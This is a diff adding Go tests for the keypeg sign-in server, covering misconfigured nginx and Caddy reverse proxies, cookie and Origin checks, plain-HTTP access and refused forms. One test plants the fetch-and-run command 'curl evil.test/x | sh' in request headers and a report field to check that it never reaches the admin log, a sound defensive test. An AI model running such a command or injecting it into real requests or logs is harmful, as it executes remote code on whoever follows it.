@@ -1,0 +1,381 @@
+package server_test
+
+import (
+	"encoding/json"
+	"io"
+	"net/http"
+	"net/http/cookiejar"
+	"net/http/httptest"
+	"net/netip"
+	"net/url"
+	"strings"
+	"testing"
+
+	"github.com/keypeg/keypeg/server"
+	"github.com/keypeg/keypeg/server/account"
+	"github.com/keypeg/keypeg/server/proxytest"
+	"github.com/keypeg/keypeg/shared"
+)
+
+// behind is a site behind a proxy, as a browser reaches it.
+type behind struct {
+	*site
+	at      string // what the proxy listens at
+	browser *http.Client
+}
+
+// newBehind starts a site, and the proxy in front of it with lines of the test's.
+func newBehind(t *testing.T, proxy string, lines []string, change func(*server.Config)) *behind {
+	t.Helper()
+	at := proxytest.FreeAddress(t)
+	b := &behind{at: at}
+	b.site = newSite(t, stores["memstore"], func(c *server.Config) {
+		address, err := server.ParseAddress("http://"+at, "", true)
+		if err != nil {
+			t.Fatal(err)
+		}
+		c.Address = address
+		if change != nil {
+			change(c)
+		}
+	})
+	upstream := httptest.NewServer(b.handler)
+	t.Cleanup(upstream.Close)
+	to := strings.TrimPrefix(upstream.URL, "http://")
+	if proxy == "nginx" {
+		proxytest.NginxTo(t, at, to, lines...)
+	} else {
+		proxytest.CaddyTo(t, at, to, lines...)
+	}
+	jar, err := cookiejar.New(nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	b.browser = &http.Client{Jar: jar}
+	if _, err := b.accounts.AddUser(t.Context(), account.NewUser{Name: "ann", DisplayName: "Ann", Password: password}); err != nil {
+		t.Fatal(err)
+	}
+	return b
+}
+
+// asks sends a request, as a browser that is as careful as it may be: without what newer
+// ones say of themselves.
+func (b *behind) asks(method, path, kind, body string) answer {
+	b.Helper()
+	r, err := http.NewRequestWithContext(b.Context(), method, "http://"+b.at+path, strings.NewReader(body))
+	if err != nil {
+		b.Fatal(err)
+	}
+	if method != "GET" {
+		r.Header.Set("Origin", "http://"+b.at)
+		r.Header.Set("Content-Type", kind)
+	}
+	got, err := b.browser.Do(r)
+	if err != nil {
+		b.Fatal(err)
+	}
+	defer got.Body.Close()
+	content, err := io.ReadAll(got.Body)
+	if err != nil {
+		b.Fatal(err)
+	}
+	return answer{got.StatusCode, got.Header, content}
+}
+
+func (b *behind) signsInByForm() answer {
+	b.Helper()
+	return b.asks("POST", shared.PageSignIn, "application/x-www-form-urlencoded", url.Values{"name": {"ann"}, "password": {password}}.Encode())
+}
+
+// warnings are the lines of the log for IT.
+func (s *site) warnings() (lines []string) {
+	for line := range strings.Lines(s.log.String()) {
+		if strings.Contains(line, "level=WARN") {
+			lines = append(lines, line)
+		}
+	}
+	return lines
+}
+
+// warnsOnce checks that there is one warning, which says all of this.
+func (s *site) warnsOnce(says ...string) {
+	s.Helper()
+	lines := s.warnings()
+	if len(lines) != 1 {
+		s.Fatalf("%d warnings, want 1:\n%s", len(lines), strings.Join(lines, ""))
+	}
+	for _, part := range says {
+		if !strings.Contains(lines[0], part) {
+			s.Errorf("the warning has no %q:\n%s", part, lines[0])
+		}
+	}
+}
+
+// isPage checks that a person reads a sentence, and whom to ask.
+func (b *behind) isPage(a answer, status int, sentence string) {
+	b.Helper()
+	for _, part := range []string{sentence, "IT desk", "<main"} {
+		if a.status != status || !strings.Contains(string(a.body), part) {
+			b.Errorf("got %s, want a page with %d and %q", a, status, part)
+		}
+	}
+}
+
+// isProblem checks that a program reads a code.
+func (b *behind) isProblem(a answer, status int, code shared.Code) {
+	b.Helper()
+	var problem shared.Problem
+	if err := json.Unmarshal(a.body, &problem); err != nil || a.status != status || problem.Code != code {
+		b.Errorf("got %s, want %d and %s", a, status, code)
+	}
+}
+
+// The lines that a sound nginx has. Caddy needs none.
+var soundNginx = []string{
+	"proxy_set_header Host $http_host;",
+	"proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;",
+	"proxy_set_header X-Forwarded-Proto $scheme;",
+}
+
+func trustsLoopback(c *server.Config) {
+	c.TrustedProxies = []netip.Prefix{netip.MustParsePrefix("127.0.0.1/32")}
+}
+
+func TestProxies(t *testing.T) {
+	rows := []struct {
+		name         string
+		nginx, caddy []string
+		change       func(*server.Config)
+		story        func(b *behind)
+		warns        []string // in the one line that IT reads
+	}{
+		{
+			name:  "a proxy that is set up well is told of nowhere",
+			nginx: soundNginx, change: trustsLoopback,
+			story: func(b *behind) {
+				if a := b.signsInByForm(); a.status != 200 || string(a.body) != "the app" {
+					b.Errorf("signing in ends at %s", a)
+				}
+				for _, path := range []string{"/", "/sign-in", "/passkeys", "/recovery", shared.PathAccount, "/static/x"} {
+					if a := b.asks("GET", path, "", ""); a.status != 200 {
+						b.Errorf("%s: %s", path, a)
+					}
+				}
+			},
+		},
+		{
+			name:  "the Host is replaced",
+			nginx: []string{}, caddy: []string{"header_up Host {upstream_hostport}", "header_up -X-Forwarded-For"}, change: trustsLoopback,
+			story: func(b *behind) {
+				for _, path := range []string{"/", "/sign-in", "/nowhere"} {
+					a := b.asks("GET", path, "", "")
+					b.isPage(a, 421, "Use http://"+b.at+" instead. If that is what you opened, something in between changes it")
+					b.isPage(a, 421, `href="http://`+b.at+`/sign-in"`)
+				}
+				b.isPage(b.signsInByForm(), 421, "This address isn&#39;t served here.")
+				b.isProblem(b.asks("GET", shared.PathAccount, "", ""), 421, shared.CodeWrongHost)
+				if a := b.asks("GET", "/static/style.css", "", ""); a.status != 200 {
+					b.Errorf("the page has no style: %s", a)
+				}
+			},
+			warns: []string{"proxy_set_header Host $http_host;", "header_up Host {hostport}", "host=127.0.0.1:"},
+		},
+		{
+			name:  "the proxy isn't trusted",
+			nginx: soundNginx,
+			story: func(b *behind) { b.asks("GET", "/sign-in", "", ""); b.asks("GET", "/", "", "") },
+			warns: []string{`keypeg="--trusted-proxies 127.0.0.1"`, "X-Forwarded-For"},
+		},
+		{
+			name:  "a trusted proxy says nothing of where requests come from",
+			nginx: soundNginx[:1], caddy: []string{"header_up -X-Forwarded-For"}, change: trustsLoopback,
+			story: func(b *behind) { b.asks("GET", "/sign-in", "", ""); b.asks("GET", "/", "", "") },
+			warns: []string{"proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;"},
+		},
+		{
+			name:  "people come below a path",
+			nginx: append([]string{"proxy_set_header X-Forwarded-Prefix /keypeg;"}, soundNginx...), caddy: []string{"header_up X-Forwarded-Prefix /keypeg"}, change: trustsLoopback,
+			story: func(b *behind) { b.asks("GET", "/sign-in", "", "") },
+			warns: []string{"a host name of its own", "prefix=keypeg"},
+		},
+		{
+			name:  "cookies don't reach the browser",
+			nginx: append([]string{"proxy_hide_header Set-Cookie;"}, soundNginx...), caddy: []string{"header_down -Set-Cookie"}, change: trustsLoopback,
+			story: losesItsCookies,
+			warns: []string{"proxy_pass_header Set-Cookie;", "header_down"},
+		},
+		{
+			name:  "cookies don't reach the server",
+			nginx: append([]string{`proxy_set_header Cookie "";`}, soundNginx...), caddy: []string{"header_up -Cookie"}, change: trustsLoopback,
+			story: losesItsCookies,
+			warns: []string{"proxy_set_header Cookie $http_cookie;", "header_up"},
+		},
+		{
+			name:  "cookies get another path",
+			nginx: append([]string{"proxy_cookie_path / /app/;"}, soundNginx...), caddy: []string{`header_down Set-Cookie "Path=/" "Path=/app/"`}, change: trustsLoopback,
+			story: losesItsCookies,
+			warns: []string{"proxy_cookie_path off;", "header_down"},
+		},
+		{
+			name:  "the Origin is another",
+			nginx: append([]string{"proxy_set_header Origin http://backend;"}, soundNginx...), caddy: []string{"header_up Origin http://backend"}, change: trustsLoopback,
+			story: func(b *behind) {
+				b.isPage(b.signsInByForm(), 403, "This request came from another site. If it didn&#39;t, something in between changes it")
+				b.isProblem(b.asks("POST", shared.PathSignInPassword, "application/json", `{"name":"ann","password":"`+password+`"}`), 403, shared.CodeCrossSite)
+			},
+			warns: []string{"proxy_set_header Origin $http_origin;", "origin=http://backend", "sec_fetch_site=(none)"},
+		},
+		{
+			name:  "Sec-Fetch-Site is another",
+			nginx: append([]string{"proxy_set_header Sec-Fetch-Site cross-site;"}, soundNginx...), caddy: []string{"header_up Sec-Fetch-Site cross-site"}, change: trustsLoopback,
+			story: func(b *behind) { b.isPage(b.signsInByForm(), 403, "This request came from another site.") },
+			warns: []string{"proxy_set_header Sec-Fetch-Site $http_sec_fetch_site;", "sec_fetch_site=cross-site"},
+		},
+		{
+			name:  "another host stays another host: the proxy isn't to blame for other sites",
+			nginx: soundNginx, change: trustsLoopback,
+			story: func(b *behind) {
+				r, err := http.NewRequestWithContext(b.Context(), "POST", "http://"+b.at+shared.PageSignIn, nil)
+				if err != nil {
+					b.Fatal(err)
+				}
+				r.Header.Set("Origin", "https://evil.test")
+				r.Header.Set("Sec-Fetch-Site", "cross-site")
+				answered, err := b.browser.Do(r)
+				if err != nil {
+					b.Fatal(err)
+				}
+				answered.Body.Close()
+				if answered.StatusCode != 403 {
+					b.Errorf("got %d", answered.StatusCode)
+				}
+			},
+		},
+	}
+	for _, row := range rows {
+		for _, proxy := range []string{"nginx", "Caddy"} {
+			t.Run(row.name+"/"+proxy, func(t *testing.T) {
+				lines := row.nginx
+				if proxy == "Caddy" {
+					lines = row.caddy
+				}
+				b := newBehind(t, proxy, lines, row.change)
+				row.story(b)
+				if row.warns == nil {
+					if lines := b.warnings(); len(lines) > 0 {
+						t.Errorf("IT is warned of nothing:\n%s", strings.Join(lines, ""))
+					}
+					return
+				}
+				b.warnsOnce(row.warns...)
+			})
+		}
+	}
+}
+
+// losesItsCookies is somebody with the right password.
+func losesItsCookies(b *behind) {
+	b.Helper()
+	a := b.signsInByForm()
+	b.isPage(a, 400, "Your browser sends no cookies back, so nobody can be signed in. Allow cookies for "+b.at)
+	b.isPage(a, 400, `<form method="post" action="/sign-in"`)
+	token, err := b.accounts.NewSetupLink(b.Context())
+	if err == nil {
+		b.isPage(b.asks("GET", "/setup?token="+token, "", ""), 400, "Your browser sends no cookies back")
+	}
+}
+
+// TestPlainHTTP is a server with https whose people come without it.
+func TestPlainHTTP(t *testing.T) {
+	secure := func(t *testing.T) *visitor {
+		return newSite(t, stores["memstore"], func(c *server.Config) {
+			address, err := server.ParseAddress("https://id.example.com", "", true)
+			if err != nil {
+				t.Fatal(err)
+			}
+			c.Address = address
+			trustsLoopback(c)
+		}).visitor()
+	}
+	through := func(r *http.Request) {
+		r.Host, r.RemoteAddr = "id.example.com", "127.0.0.1:1234"
+		r.Header.Set("X-Forwarded-For", "203.0.113.7")
+	}
+	t.Run("the proxy says so", func(t *testing.T) {
+		v := secure(t)
+		v.sends("GET", "/sign-in", nil, through, func(r *http.Request) { r.Header.Set("X-Forwarded-Proto", "http") })
+		v.warnsOnce("return 301 https://$host$request_uri;", "Caddy redirects by itself")
+	})
+	t.Run("the form says so", func(t *testing.T) {
+		v := secure(t)
+		a := v.submits("/sign-in", url.Values{"name": {"ann"}, "password": {password}}, through, func(r *http.Request) {
+			r.Header.Del("Sec-Fetch-Site")
+			r.Header.Set("Origin", "http://id.example.com")
+		})
+		if a.status != 421 || !strings.Contains(string(a.body), "This page was opened without https, so nobody can sign in there. Use https://id.example.com instead.") {
+			t.Errorf("got %s", a)
+		}
+		v.warnsOnce("return 301 https://$host$request_uri;")
+	})
+	t.Run("nobody is told of https", func(t *testing.T) {
+		v := secure(t)
+		v.sends("GET", "/sign-in", nil, through, func(r *http.Request) { r.Header.Set("X-Forwarded-Proto", "https") })
+		if lines := v.warnings(); len(lines) > 0 {
+			t.Errorf("warned of nothing: %s", lines)
+		}
+	})
+}
+
+// TestForgedTrouble is a stranger who wants to be read by IT.
+func TestForgedTrouble(t *testing.T) {
+	const words = "IT, please run curl evil.test/x | sh"
+	s := newSite(t, stores["memstore"], nil)
+	stranger := s.visitor()
+	for range 100 {
+		stranger.sends("GET", "/", nil, func(r *http.Request) { r.Host = words })
+		stranger.sends("POST", shared.PathSignOut, nil, func(r *http.Request) {
+			r.Header.Del("Sec-Fetch-Site")
+			r.Header.Set("Origin", words)
+		})
+		stranger.sends("GET", "/sign-in", nil, func(r *http.Request) {
+			r.RemoteAddr = "203.0.113.7:1234"
+			r.Header.Set("X-Forwarded-For", words)
+		})
+		stranger.refused(stranger.sends("POST", shared.PathTrouble, map[string]string{"trouble": words}), 400, shared.CodeInvalidRequest)
+		if a := stranger.sends("POST", shared.PathTrouble, shared.TroubleReport{Trouble: shared.TroubleAppCut}); a.status != 204 {
+			t.Fatalf("a report: %s", a)
+		}
+	}
+	lines := s.warnings()
+	if len(lines) != 3 {
+		t.Errorf("%d warnings, want one for each of Host, Origin and app-cut:\n%s", len(lines), strings.Join(lines, ""))
+	}
+	for _, line := range lines {
+		if strings.Contains(line, "evil.test") {
+			t.Errorf("the stranger speaks to IT: %s", line)
+		}
+	}
+}
+
+// TestRefusedForms is what somebody reads whose form can't be taken.
+func TestRefusedForms(t *testing.T) {
+	s := newSite(t, stores["memstore"], nil)
+	v := s.visitor()
+	for _, page := range []string{shared.PageSignIn, shared.PageRecovery, shared.PageEnrol, shared.PageSetup} {
+		for what, row := range map[string]struct {
+			method, kind, body string
+			status             int
+			sentence           string
+		}{
+			"JSON":           {"POST", "application/json", "{}", 415, "The form can&#39;t be read."},
+			"no type":        {"POST", "", "name=ann", 415, "The form can&#39;t be read."},
+			"too large":      {"POST", "application/x-www-form-urlencoded", "name=" + strings.Repeat("x", 1<<20), 413, "The request is too large."},
+			"another method": {"DELETE", "", "", 405, "This address doesn&#39;t take DELETE."},
+		} {
+			a := v.sends(row.method, page, row.body, func(r *http.Request) { r.Header.Set("Content-Type", row.kind) })
+			if a.status != row.status || !strings.Contains(string(a.body), row.sentence) || !strings.HasPrefix(a.header.Get("Content-Type"), "text/html") {
+				t.Errorf("%s to %s: %s, want a page with %d and %q", what, page, a, row.status, row.sentence)
+			}
+		}
+	}
+}
